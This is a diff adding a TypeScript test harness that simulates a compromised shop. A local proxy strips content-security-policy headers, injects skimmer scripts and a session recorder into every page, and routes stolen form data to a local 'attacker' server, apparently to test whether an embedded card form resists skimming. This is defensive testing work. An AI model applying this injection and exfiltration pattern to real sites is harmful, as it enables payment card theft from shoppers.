@@ -1,0 +1,121 @@
+// A shop that was broken into: everything it shows carries skimmers, and what they find arrives at a server of the attacker's.
+import { createServer, type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http';
+import { readFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import type { AddressInfo } from 'node:net';
+import { dirname, join } from 'node:path';
+import { LISTENING } from './listening.ts';
+import { PATCHING, worker } from './patching.ts';
+import type { Skimmer } from './skimmer.ts';
+import { thievesOf } from './thief.ts';
+
+/** What the address of a page with the form may ask for: within a kind, none steals from another. Those who leave things behind come last. */
+export const KINDS = { patching: PATCHING, listening: LISTENING } as const;
+type Kind = keyof typeof KINDS;
+export const SKIMMERS: readonly Skimmer[] = [...LISTENING, ...PATCHING];
+
+const RECORDER = join(dirname(createRequire(import.meta.url).resolve('rrweb')), 'rrweb.umd.min.cjs');
+/** What one hop says to the next, and what the attacker takes out of the shop's answers. */
+const NOT_PASSED_ON =
+  /^(?:host|connection|content-length|transfer-encoding|keep-alive|content-encoding|content-security-policy)$/;
+
+/** The shop itself, and the card server that its checkout speaks to. */
+interface Behind {
+  readonly shop: string;
+  readonly cards: string;
+}
+
+export interface SkimmedShop {
+  readonly url: string;
+  /** From here on it passes everything on. */
+  standBefore(behind: Behind): void;
+  /** What each skimmer has sent home, in order of {@link SKIMMERS}. */
+  readonly loot: readonly string[];
+  /** Every byte that shoppers' browsers and the card server sent to the shop. */
+  received(): string;
+  close(): Promise<void>;
+}
+
+async function listen(answer: RequestListener): Promise<{ readonly server: Server; readonly url: string }> {
+  const server = createServer(answer);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { server, url: `http://localhost:${(server.address() as AddressInfo).port}` };
+}
+
+async function bodyOf(request: IncomingMessage): Promise<Buffer> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer);
+  return Buffer.concat(chunks);
+}
+
+const send = (response: ServerResponse, type: string, body: string | Buffer): void =>
+  void response.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(body);
+
+export async function openSkimmedShop(): Promise<SkimmedShop> {
+  const loot = SKIMMERS.map(() => '');
+  const attacker = await listen((request, response) => {
+    void bodyOf(request).then((body) => {
+      const row = Number(request.url?.slice(1));
+      if (row in loot) loot[row] += `${body.toString()}\n`;
+      response.writeHead(204).end();
+    });
+  });
+
+  const skimmersOf = (kind: Kind | null): string =>
+    [
+      '<script src="/recorder.js"></script><script>{',
+      `const thiefOf = (${thievesOf.toString()})(${JSON.stringify(attacker.url)});`,
+      ...(kind ? KINDS[kind] : SKIMMERS).map((row) => `(${row.script.toString()})(thiefOf(${SKIMMERS.indexOf(row)}));`),
+      '}</script>',
+    ].join('\n');
+
+  let behind: Behind | undefined;
+  const received: string[] = [];
+  const front = await listen((request, response) => {
+    void answer(request, response).catch(() => response.destroy());
+  });
+
+  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
+    const { pathname, searchParams } = new URL(request.url ?? '/', front.url);
+    const body = (await bodyOf(request)).toString();
+    received.push(`${request.method} ${request.url} ${request.rawHeaders.join(' ')} ${body}`);
+    if (!behind) return void response.writeHead(503).end();
+    if (pathname === '/recorder.js') return send(response, 'text/javascript', await readFile(RECORDER));
+    if (pathname === '/worker.js') return send(response, 'text/javascript', `(${worker.toString()})();`);
+    const skimmers = skimmersOf(searchParams.get('kind') as Kind | null);
+    const [, reference] = /^\/checkout\/(\w+)$/.exec(pathname) ?? [];
+    if (reference) return send(response, 'text/html', checkout(reference, skimmers, behind.cards));
+    const answered = await fetch(`${behind.shop}${request.url}`, {
+      method: request.method ?? 'GET',
+      headers: Object.entries(request.headers).filter(([name]) => !NOT_PASSED_ON.test(name)) as [string, string][],
+      redirect: 'manual',
+      ...(body !== '' && { body }),
+    });
+    const headers = Object.fromEntries([...answered.headers].filter(([name]) => !NOT_PASSED_ON.test(name)));
+    response.writeHead(answered.status, headers);
+    response.end((await answered.text()).replace(/^<!doctype html>/i, (start) => start + skimmers));
+  }
+
+  return {
+    url: front.url,
+    standBefore: (given) => (behind = given),
+    loot,
+    received: () => received.join('\n'),
+    async close() {
+      for (const { server } of [front, attacker]) {
+        server.closeAllConnections();
+        await new Promise((resolve) => server.close(resolve));
+      }
+    },
+  };
+}
+
+/** The shop's own page with the form in it, where the shop does not send shoppers to the card server's. */
+const checkout = (reference: string, skimmers: string, cards: string): string => `<!doctype html>
+<html lang="en">
+<title>Checkout</title>
+${skimmers}
+<script type="module" src="${cards}/eximpe/card-form.js"></script>
+<h1>Table runner</h1>
+<eximpe-card-form checkout="${reference}" endpoint="${cards}/eximpe"></eximpe-card-form>
+</html>`;
